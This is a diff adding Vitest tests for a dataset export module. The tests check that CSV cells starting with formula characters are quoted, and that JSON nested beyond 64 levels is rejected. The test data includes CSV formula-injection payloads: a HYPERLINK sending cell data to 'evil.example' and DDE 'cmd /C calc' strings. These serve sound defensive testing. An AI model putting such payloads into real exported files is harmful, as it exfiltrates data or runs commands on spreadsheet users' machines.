@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import {
   itemsToCsv,
@@ -144,8 +145,72 @@ describe("export", () => {
     expect(back).toEqual({ ok: true, items: items.map(({ id: _id, ...rest }) => rest) });
   });
 
+  // A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
+  // outputs that came from online samples are text a runtime key sent, i.e. anyone's.
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"],
+    ["+cmd|' /C calc'!A0", "'+cmd"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+    // Already starting with a quote before a formula character: quoted once more, so reimport is exact.
+    ["'=1+1", "''=1+1"],
+  ])("CSV neutralises a cell starting %j and reimports it unchanged", (value, starts) => {
+    const row = { id: "1", input: { question: value }, expected: value, tags: [], metadata: {} };
+    const csv = itemsToCsv([row]);
+    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1]!;
+    expect(cells[0]!.startsWith(starts)).toBe(true);
+    expect(cells[1]!.startsWith(starts)).toBe(true);
+    expect(parseCsvItems(csv, vars)).toEqual({
+      ok: true,
+      items: [{ input: { question: value }, expected: value, tags: [], metadata: {} }],
+    });
+  });
+
+  it("CSV leaves ordinary cells alone", () => {
+    const csv = itemsToCsv([{ id: "1", input: { question: "a = b", count: 2 }, tags: ["t"], metadata: {} }]);
+    expect(csv).toBe("question,count,expected,tags,metadata\na = b,2,,t,\n");
+  });
+
   it("JSONL reimports as the same items", () => {
     const back = parseJsonlItems(itemsToJsonl(items));
     expect(back).toEqual({ ok: true, items: items.map(({ id: _id, ...rest }) => rest) });
+  });
+});
+
+describe("deep JSON", () => {
+  // A snapshot of the project must import again, and PostgreSQL's jsonb and our own recursion have
+  // limits: every upload path refuses more than 64 levels, naming the row and field.
+  const deep = (n: number) => "[".repeat(n) + "]".repeat(n);
+  const deepObject = (n: number) => '{"a":'.repeat(n) + "1" + "}".repeat(n);
+
+  it.each([
+    ["JSONL input", () => parseJsonlItems(`{"input":{"question":"q","context":${deep(1000)}}}\n`, vars), 1],
+    ["JSONL expected", () => parseJsonlItems(`{"input":{"question":"q"},"expected":${deep(5000)}}\n`, vars), 1],
+    ["JSONL metadata", () => parseJsonlItems(`{"input":{"question":"q"},"metadata":${deepObject(100)}}\n`, vars), 1],
+    ["CSV json cell", () => parseCsvItems(`question,context\nq,"${deep(1000)}"\n`, vars), 1],
+    ["CSV expected", () => parseCsvItems(`question,expected\nq,"${deep(5000)}"\n`, vars), 1],
+    ["CSV metadata", () => parseCsvItems(`question,metadata\nq,"${deepObject(200).replace(/"/g, '""')}"\n`, vars), 1],
+    [
+      "JSON items",
+      () =>
+        parseJsonItems(
+          { items: [{ input: { question: "q" } }, { input: { question: "q", context: JSON.parse(deep(70)) } }] },
+          vars,
+        ),
+      2,
+    ],
+  ])("refuses %s nested more than 64 levels, naming the row", (_, parse, row) => {
+    const r = parse();
+    expect(r.ok).toBe(false);
+    if (r.ok) return;
+    expect(r.errors).toEqual([
+      expect.objectContaining({ row, message: expect.stringContaining("nested more than 64 levels") }),
+    ]);
+  });
+
+  it("accepts 64 levels", () => {
+    expect(parseJsonlItems(`{"input":{"question":"q","context":${deep(60)}}}\n`, vars).ok).toBe(true);
   });
 });
